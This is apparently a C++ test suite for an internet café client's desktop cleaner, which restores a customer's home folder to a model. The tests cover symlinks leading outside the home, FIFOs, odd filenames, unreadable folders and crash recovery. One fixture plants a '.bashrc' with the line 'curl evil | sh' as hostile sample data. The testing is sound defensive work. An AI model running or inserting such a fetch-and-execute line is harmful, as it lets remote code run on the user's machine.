#include "client/control/DesktopCleaner.h"

#include "client/ClientFakes.h"
#include "client/config/ConfigModel.h"
#include "client/control/DesktopCleaning.h"
#include "client/station/StationKeys.h"
#include "common/Cp1252.h"
#include "platform/fake/FakeAutostart.h"
#include "platform/fake/FaultyFolder.h"
#include "platform/fake/MemoryRegistry.h"
#include "platform/linux/PosixFolder.h"
#include "support/FakeCashier.h"
#include "support/TempDir.h"
#include "support/Wait.h"

#include <cerrno>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <gtest/gtest.h>
#include <linux/capability.h>
#include <map>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

namespace tarvina::client {
namespace {

using platform::FaultPlan;
using platform::FaultyFolderOpener;
using platform::PosixFolderOpener;

void Write(const std::string& path, const std::string& data, mode_t mode = 0644) {
    std::ofstream(path, std::ios::binary) << data;
    ASSERT_EQ(::chmod(path.c_str(), mode), 0) << path;
}

void Dir(const std::string& path, mode_t mode = 0755) {
    ASSERT_EQ(::mkdir(path.c_str(), 0700), 0) << path;
    ASSERT_EQ(::chmod(path.c_str(), mode), 0) << path;
}

std::string Read(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

// What a tree holds, entry by entry: type, mode and content or link target.
// Unreadable folders are opened for the look and closed again.
void Dump(const std::string& root, const std::string& rel,
          std::map<std::string, std::string>& out) {
    const std::string path = rel.empty() ? root : root + "/" + rel;
    struct stat st {};
    ASSERT_EQ(::lstat(path.c_str(), &st), 0) << path;
    const std::string mode = std::to_string(st.st_mode & 07777);
    if (S_ISLNK(st.st_mode)) {
        char buf[4096];
        const ssize_t n = ::readlink(path.c_str(), buf, sizeof buf);
        out[rel] = "link " + std::string(buf, static_cast<std::size_t>(n));
    } else if (S_ISREG(st.st_mode)) {
        ::chmod(path.c_str(), 0600);
        out[rel] = "file " + mode + " " + Read(path);
        ::chmod(path.c_str(), st.st_mode & 07777);
    } else if (S_ISDIR(st.st_mode)) {
        if (!rel.empty())
            out[rel] = "dir " + mode;
        ::chmod(path.c_str(), 0700);
        DIR* d = ::opendir(path.c_str());
        ASSERT_NE(d, nullptr) << path;
        std::vector<std::string> names;
        while (const dirent* e = ::readdir(d))
            if (std::string(e->d_name) != "." && std::string(e->d_name) != "..")
                names.emplace_back(e->d_name);
        ::closedir(d);
        for (const auto& n : names)
            Dump(root, rel.empty() ? n : rel + "/" + n, out);
        ::chmod(path.c_str(), st.st_mode & 07777);
    } else {
        out[rel] = "special";
    }
}

std::map<std::string, std::string> Tree(const std::string& root) {
    std::map<std::string, std::string> out;
    Dump(root, std::string(), out);
    return out;
}

void MakeSocket(const std::string& path) {
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    ASSERT_LT(path.size(), sizeof a.sun_path);
    std::copy(path.begin(), path.end(), a.sun_path);
    ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0) << path;
    ::close(fd);
}

// Root passes every permission check, the customer does not: the test sheds
// the capabilities that bypass them for as long as it runs (kept permitted,
// to be taken back).
class AsCustomer {
public:
    AsCustomer() { set(false); }
    ~AsCustomer() { set(true); }

private:
    static void set(bool on) {
        __user_cap_header_struct h{_LINUX_CAPABILITY_VERSION_3, 0};
        __user_cap_data_struct d[2]{};
        if (::syscall(SYS_capget, &h, d) != 0)
            return;
        for (const int cap : {CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH}) {
            const unsigned bit = 1u << (cap % 32);
            if (on)
                d[cap / 32].effective |= d[cap / 32].permitted & bit;
            else
                d[cap / 32].effective &= ~bit;
        }
        ::syscall(SYS_capset, &h, d);
    }
};

const std::vector<std::string> kKeep = {".config/tarvina", ".local/share/tarvina"};

// A scratch machine: the café's model, a customer's home left in a state of
// every hostile kind, and a folder outside both that links point at.
class Cleaning : public ::testing::Test {
protected:
    void SetUp() override {
        model_ = tmp_.path().toStdString() + "/modelo";
        home_ = tmp_.path().toStdString() + "/h";
        outside_ = tmp_.path().toStdString() + "/fuera";
        Dir(outside_);
        Write(outside_ + "/víctima", "no tocar");
        Dir(model_);
        Write(model_ + "/.bashrc", "alias ls='ls -F'\n");
        Dir(model_ + "/Escritorio");
        Write(model_ + "/Escritorio/Navegador.desktop", "[Desktop Entry]\n", 0755);
        Dir(model_ + "/Documentos");
        Write(model_ + "/Documentos/Léame.txt", "Bienvenido", 0444);
        ::chmod((model_ + "/Documentos").c_str(), 0555);
        ASSERT_EQ(::symlink("Escritorio/Navegador.desktop", (model_ + "/atajo").c_str()), 0);
        Dir(model_ + "/.local");
        Dir(model_ + "/.local/share");
        Write(model_ + "/.local/share/recent", "");
        MakeHome();
    }
    void TearDown() override {
        // The names that are no UTF-8 are beyond the temporary folder's own
        // clean-up.
        const std::string t = tmp_.path().toStdString();
        ASSERT_EQ(
            std::system(
                ("chmod -R u+rwx '" + t + "' && find '" + t + "' -mindepth 1 -delete").c_str()),
            0);
    }

    void MakeHome() {
        Dir(home_, 0700);
        // Changed content, mode; the customer's own things.
        Write(home_ + "/.bashrc", "curl evil | sh\n");
        Dir(home_ + "/Escritorio");
        Write(home_ + "/Escritorio/Navegador.desktop", "[Desktop Entry]\n", 0644);
        Write(home_ + "/Escritorio/factura.pdf", std::string(300000, 'x'), 0444);
        // A read-only folder with a read-only file, an unreadable folder.
        Dir(home_ + "/Documentos", 0700);
        Write(home_ + "/Documentos/Léame.txt", "cambiado", 0444);
        Write(home_ + "/Documentos/cuenta.txt", "usuario y clave", 0400);
        ::chmod((home_ + "/Documentos").c_str(), 0500);
        Dir(home_ + "/Descargas");
        Dir(home_ + "/Descargas/oculto");
        Write(home_ + "/Descargas/oculto/película.mkv", "....");
        ::chmod((home_ + "/Descargas/oculto").c_str(), 0);
        // Links that lead out of the home: removed, never followed.
        ASSERT_EQ(::symlink(outside_.c_str(), (home_ + "/afuera").c_str()), 0);
        ASSERT_EQ(::symlink(outside_.c_str(), (home_ + "/.local").c_str()), 0);
        ASSERT_EQ(::symlink("/etc/passwd", (home_ + "/atajo").c_str()), 0);
        // Entries that must never be opened.
        ASSERT_EQ(::mkfifo((home_ + "/tubería").c_str(), 0600), 0);
        MakeSocket(home_ + "/Escritorio/s");
        // Names as bytes.
        Write(home_ + "/línea\nnueva", "a");
        Write(home_ + "/\xff\xfe-no-utf8", "b");
        // The station's own files.
        Dir(home_ + "/.config");
        Write(home_ + "/.config/otro.conf", "de otro programa");
        Dir(home_ + "/.config/tarvina");
        Write(home_ + "/.config/tarvina/user.reg", "REGEDIT4\n");
        // The temporary file of a restore that died.
        Write(home_ + "/Escritorio/" + DesktopCleaner::kTempName, "medio");
    }

    std::map<std::string, std::string> Expected() {
        auto want = Tree(model_);
        want[".config"] = "dir 493";
        want[".config/tarvina"] = "dir 493";
        want[".config/tarvina/user.reg"] = "file 420 REGEDIT4\n";
        return want;
    }

    tarvina::test::TempDir tmp_;
    AsCustomer customer_;
    std::string model_, home_, outside_;
    PosixFolderOpener fs_;
};

TEST_F(Cleaning, HostileHomeMatchesModelAndKeepsTheStationsFiles) {
    const auto outsideBefore = Tree(outside_);
    DesktopCleaner cleaner(fs_, kKeep);
    const auto r = cleaner.clean(home_, model_);
    ASSERT_TRUE(r.ok) << r.error;
    EXPECT_EQ(Tree(home_), Expected());
    EXPECT_EQ(Tree(outside_), outsideBefore);
    EXPECT_EQ(Read("/etc/passwd").empty(), false);
    EXPECT_GT(r.removed, 10u);
    EXPECT_GE(r.restored, 5u); // .bashrc, mode, Léame, atajo, .local...
    EXPECT_EQ(r.bytes, std::string("alias ls='ls -F'\n").size() + std::string("Bienvenido").size());
    EXPECT_TRUE(r.mountPoints.empty());

    // A second run finds nothing to do.
    const auto again = cleaner.clean(home_, model_);
    ASSERT_TRUE(again.ok) << again.error;
    EXPECT_EQ(again.removed + again.restored + again.bytes, 0u);
}

TEST_F(Cleaning, ModelSavedFromAHomeLeavesOutWhatCannotBeCopied) {
    const std::string saved = tmp_.path().toStdString() + "/nuevo";
    Dir(saved, 0755);
    Write(saved + "/viejo", "de antes");
    DesktopCleaner cleaner(fs_, kKeep);
    // A folder of the home that cannot be read is not guessed at.
    const auto refused = cleaner.saveModel(home_, saved);
    EXPECT_FALSE(refused.ok);
    EXPECT_EQ(refused.error, "no se pudo abrir la carpeta «Descargas/oculto»: permiso denegado");
    ASSERT_EQ(::chmod((home_ + "/Descargas/oculto").c_str(), 0755), 0);
    const auto r = cleaner.saveModel(home_, saved);
    ASSERT_TRUE(r.ok) << r.error;
    const auto tree = Tree(saved);
    EXPECT_EQ(tree.count(".config/tarvina"), 0u);
    EXPECT_EQ(tree.count("tubería"), 0u);
    EXPECT_EQ(tree.count("viejo"), 0u);
    EXPECT_EQ(tree.at("afuera"), "link " + outside_);
    EXPECT_EQ(tree.at(".config/otro.conf"), "file 420 de otro programa");
    EXPECT_EQ(tree.at("Descargas/oculto/película.mkv"), "file 420 ....");

    // The home cleaned against that model is the home it was saved from,
    // without the special files.
    ASSERT_TRUE(cleaner.clean(home_, saved).ok);
    auto want = Tree(saved);
    want[".config/tarvina"] = "dir 493";
    want[".config/tarvina/user.reg"] = "file 420 REGEDIT4\n";
    EXPECT_EQ(Tree(home_), want);
}

TEST_F(Cleaning, FirstErrorStopsTheRunAndNamesThePath) {
    FaultPlan plan;
    plan.failAt(3, EACCES);
    FaultyFolderOpener faulty(fs_, plan);
    DesktopCleaner cleaner(faulty, kKeep);
    const auto r = cleaner.clean(home_, model_);
    EXPECT_FALSE(r.ok);
    EXPECT_NE(r.error.find("permiso denegado"), std::string::npos) << r.error;
    EXPECT_NE(r.error.find("«"), std::string::npos) << r.error;
    EXPECT_EQ(plan.changes(), 3);
    EXPECT_LE(r.removed + r.restored, 2u);

    // A name with a newline is shown escaped.
    EXPECT_EQ(PrintablePath("línea\nnueva"), "línea\\x0anueva");

    // No model: said so, nothing touched.
    const auto before = Tree(home_);
    const auto none = DesktopCleaner(fs_, kKeep).clean(home_, model_ + "-no");
    EXPECT_FALSE(none.ok);
    EXPECT_NE(none.error.find("carpeta modelo"), std::string::npos) << none.error;
    EXPECT_EQ(Tree(home_), before);
}

TEST_F(Cleaning, ProcessDyingAtEveryChangeIsFinishedByTheNextRun) {
    FaultPlan count;
    {
        FaultyFolderOpener faulty(fs_, count);
        ASSERT_TRUE(DesktopCleaner(faulty, kKeep).clean(home_, model_).ok);
    }
    const int steps = count.changes();
    ASSERT_GT(steps, 20);
    for (int k = 1; k <= steps; ++k) {
        ASSERT_EQ(std::system(("chmod -R u+rwx '" + home_ + "' && rm -rf '" + home_ + "'").c_str()),
                  0);
        MakeHome();
        FaultPlan plan;
        plan.dieAt(k);
        FaultyFolderOpener faulty(fs_, plan);
        EXPECT_THROW(DesktopCleaner(faulty, kKeep).clean(home_, model_), platform::ProcessGone)
            << k;
        const auto r = DesktopCleaner(fs_, kKeep).clean(home_, model_);
        ASSERT_TRUE(r.ok) << k << ": " << r.error;
        ASSERT_EQ(Tree(home_), Expected()) << "died at change " << k;
    }
}

TEST_F(Cleaning, LinkInThePlaceOfTheStationsFolderIsRemoved) {
    ASSERT_EQ(std::system(("rm -rf '" + home_ + "/.config'").c_str()), 0);
    ASSERT_EQ(::symlink(outside_.c_str(), (home_ + "/.config").c_str()), 0);
    const auto outsideBefore = Tree(outside_);
    const auto r = DesktopCleaner(fs_, kKeep).clean(home_, model_);
    ASSERT_TRUE(r.ok) << r.error;
    auto want = Tree(model_);
    EXPECT_EQ(Tree(home_), want);
    EXPECT_EQ(Tree(outside_), outsideBefore);
}

// A folder that claims another file system for one name: a mount point.
class MountedAt final : public platform::FolderOpener {
public:
    MountedAt(platform::FolderOpener& inner, std::string name) : inner_(inner), name_(name) {}
    std::unique_ptr<platform::Folder> openRoot(const std::string& path) override {
        return std::make_unique<F>(inner_.openRoot(path), name_);
    }

private:
    class F final : public platform::Folder {
    public:
        F(std::unique_ptr<platform::Folder> in, std::string name)
            : in_(std::move(in)), name_(std::move(name)) {}
        std::uint64_t device() const override { return in_->device(); }
        std::vector<std::string> list() override { return in_->list(); }
        std::optional<platform::FolderEntry> stat(const std::string& n) override {
            auto e = in_->stat(n);
            if (e && n == name_)
                e->device += 1;
            return e;
        }
        std::unique_ptr<platform::Folder> open(const std::string& n) override {
            return std::make_unique<F>(in_->open(n), name_);
        }
        std::unique_ptr<platform::FileReader> read(const std::string& n) override {
            return in_->read(n);
        }
        std::unique_ptr<platform::FileWriter> create(const std::string& n) override {
            return in_->create(n);
        }
        void rename(const std::string& a, const std::string& b) override { in_->rename(a, b); }
        void remove(const std::string& n, bool f) override { in_->remove(n, f); }
        void makeFolder(const std::string& n, unsigned m) override { in_->makeFolder(n, m); }
        std::string readLink(const std::string& n) override { return in_->readLink(n); }
        void makeLink(const std::string& n, const std::string& t) override { in_->makeLink(n, t); }
        void setMode(const std::string& n, unsigned m) override { in_->setMode(n, m); }
        void syncAll() override { in_->syncAll(); }

    private:
        std::unique_ptr<platform::Folder> in_;
        std::string name_;
    };
    platform::FolderOpener& inner_;
    std::string name_;
};

TEST_F(Cleaning, MountPointInsideTheHomeIsLeftAloneAndReported) {
    Dir(home_ + "/usb");
    Write(home_ + "/usb/fotos.jpg", "jpeg");
    MountedAt mounted(fs_, "usb");
    const auto r = DesktopCleaner(mounted, kKeep).clean(home_, model_);
    ASSERT_TRUE(r.ok) << r.error;
    EXPECT_EQ(r.mountPoints, std::vector<std::string>{"usb"});
    EXPECT_EQ(Read(home_ + "/usb/fotos.jpg"), "jpeg");
}

} // namespace
} // namespace tarvina::client

namespace tarvina::client::test {
namespace {

// $HOME for one test.
class ScopedHome {
public:
    explicit ScopedHome(const QString& home) : old_(qgetenv("HOME")) {
        qputenv("HOME", QFile::encodeName(home));
    }
    ~ScopedHome() { qputenv("HOME", old_); }

private:
    QByteArray old_;
};

// A station with the clean desktop on, a model of one file and a home with
// one more.
struct CleaningStation {
    explicit CleaningStation(quint16 port = 1) {
        model = tmp.file(QStringLiteral("modelo"));
        home = tmp.file(QStringLiteral("casa"));
        QDir().mkpath(model);
        QDir().mkpath(home + QStringLiteral("/Descargas"));
        Put(model + QStringLiteral("/notas.txt"), "del café");
        Put(home + QStringLiteral("/Descargas/ajeno.zip"), "zip");
        keys::kLimpiarEscritorio.write(st.registry, true);
        keys::kModeloEscritorio.write(st.registry, model);
        ClientEnvironment e = st.env();
        e.port = port;
        st.make(e);
        st.core->useFolders(fs, {}, 0);
    }
    static void Put(const QString& path, const QByteArray& data) {
        QFile f(path);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(data);
    }
    bool homeIsModel() const {
        return !QFileInfo::exists(home + QStringLiteral("/Descargas")) &&
               QFileInfo::exists(home + QStringLiteral("/notas.txt"));
    }

    tarvina::test::TempDir tmp;
    QString model, home;
    ScopedHome scoped{tmp.file(QStringLiteral("casa"))};
    platform::PosixFolderOpener fs;
    Station st;
};

TEST(StationCleaning, LockAfterAUseCleansTheHomeBeforeTheNextGrant) {
    CleaningStation c;
    c.st.start();
    c.st.welcome.answers << ScriptedWelcome::Answer{true, {}, {}};
    c.st.core->session().StartGrant({"30", "Ana", {}});
    ASSERT_EQ(c.st.core->session().state(), ClientState::InUse);
    EXPECT_FALSE(c.homeIsModel()); // a grant alone cleans nothing

    c.st.core->session().EndOfUse();
    Station::drain();
    c.st.tick(1);
    ASSERT_EQ(c.st.core->session().state(), ClientState::Locked);
    // The next customer's grant waits for the cleaning, with the lock up.
    c.st.welcome.answers << ScriptedWelcome::Answer{true, {}, {}};
    c.st.core->session().StartGrant({"10", "Luis", {}});
    EXPECT_EQ(c.st.core->session().state(), ClientState::Locked);
    EXPECT_TRUE(c.st.core->session().grantsHeld());

    ASSERT_TRUE(tarvina::test::WaitUntil([&] { return !c.st.core->session().grantsHeld(); }));
    EXPECT_TRUE(c.homeIsModel());
    EXPECT_EQ(c.st.core->session().state(), ClientState::InUse);
    EXPECT_EQ(c.st.core->session().user(), "Luis");
    QFile log(c.st.home.file(QStringLiteral("Limpieza.log")));
    ASSERT_TRUE(log.open(QIODevice::ReadOnly));
    EXPECT_TRUE(log.readAll().contains("2 borrados, 1 restaurados, 9 bytes escritos"));
}

TEST(StationCleaning, CleaningCutShortIsFinishedAtTheNextStartBeforeAnyUnlock) {
    CleaningStation c;
    c.st.writeFile(QStringLiteral("Data/limpieza.pendiente"), "casa\nmodelo\n");
    c.st.start();
    EXPECT_TRUE(c.st.core->session().grantsHeld());
    ASSERT_TRUE(tarvina::test::WaitUntil([&] { return !c.st.core->session().grantsHeld(); }));
    EXPECT_TRUE(c.homeIsModel());
    EXPECT_FALSE(QFileInfo::exists(c.st.home.file(QStringLiteral("Data/limpieza.pendiente"))));
}

TEST(StationCleaning, AFailedCleaningTellsTheCashierAndLetsTheNextGrantIn) {
    tarvina::test::FakeCashier cashier;
    CleaningStation c(cashier.port());
    ASSERT_EQ(::mkfifo(QFile::encodeName(c.model + QStringLiteral("/tubo")).constData(), 0600), 0);
    c.st.core->Create();
    c.st.core->setAutoConnect(false);
    c.st.core->Show();
    c.st.core->link().StartConnectThread();
    ASSERT_TRUE(cashier.accept());
    ASSERT_TRUE(tarvina::test::WaitUntil([&] { return c.st.core->link().connected(); }));
    c.st.welcome.answers << ScriptedWelcome::Answer{true, {}, {}};
    c.st.core->session().StartGrant({"30", "Ana", {}});
    c.st.core->session().EndOfUse();
    Station::drain();
    c.st.tick(1);
    ASSERT_EQ(c.st.core->session().state(), ClientState::Locked);

    ASSERT_EQ(cashier.line("R14"), "R14");
    EXPECT_EQ(cashier.block(),
              common::ToCp1252(QStringLiteral(
                  "Limpieza incompleta: el modelo tiene un archivo especial en «tubo»")));
    ASSERT_TRUE(tarvina::test::WaitUntil([&] { return !c.st.core->session().grantsHeld(); }));
    // Stopped at the error, the journal kept for the next start.
    EXPECT_TRUE(QFileInfo::exists(c.st.home.file(QStringLiteral("Data/limpieza.pendiente"))));
    c.st.welcome.answers << ScriptedWelcome::Answer{true, {}, {}};
    c.st.core->session().StartGrant({"10", "Luis", {}});
    EXPECT_EQ(c.st.core->session().state(), ClientState::InUse);
}

TEST(StationCleaning, TheBoxIsRefusedWithoutAUsableModelAndStoredWithOne) {
    tarvina::test::TempDir tmp;
    platform::MemoryRegistry registry;
    platform::FakeAutostart autostart;
    config::ConfigModel model(registry, autostart);
    const QString home = tmp.file(QStringLiteral("casa"));
    model.setModelCheck(
        [&](const QString& folder) { return DesktopCleaning::RefuseModel(home, folder); });
    struct Target final : config::ConfigTarget {
        void applySettings(const ClientSettings& next, bool) override { applied = next; }
        bool backupLogos(bool) override { return true; }
        void setTaskBarHidden(bool) override {}
        void setHiddenDrives(quint32) override {}
        void showLockPicture(const QString&) override {}
        void applyWallpaper() override {}
        void reloadRotation() override {}
        ClientSettings applied;
    } target;
    ClientSettings current = ClientSettings::Defaults();
    current.modeloEscritorio = tmp.file(QStringLiteral("modelo"));
    config::ConfigValues v = model.load(current);
    v.limpiarEscritorio = true;

    auto out = model.save(v, current, target, {}, {});
    EXPECT_EQ(out.kind, config::SaveOutcome::Kind::Invalid);
    EXPECT_TRUE(out.message.contains(QStringLiteral("No existe la carpeta modelo")))
        << out.message.toStdString();
    EXPECT_FALSE(ClientSettings::Read(registry).limpiarEscritorio);

    // A model inside the home would be cleaned away by its own cleaning.
    current.modeloEscritorio = home + QStringLiteral("/modelo");
    QDir().mkpath(current.modeloEscritorio);
    out = model.save(v, current, target, {}, {});
    EXPECT_EQ(out.kind, config::SaveOutcome::Kind::Invalid);

    current.modeloEscritorio = tmp.file(QStringLiteral("modelo"));
    QDir().mkpath(current.modeloEscritorio);
    out = model.save(v, current, target, {}, {});
    EXPECT_EQ(out.kind, config::SaveOutcome::Kind::Saved) << out.message.toStdString();
    EXPECT_TRUE(ClientSettings::Read(registry).limpiarEscritorio);
    EXPECT_TRUE(target.applied.limpiarEscritorio);
}

} // namespace
} // namespace tarvina::client::test
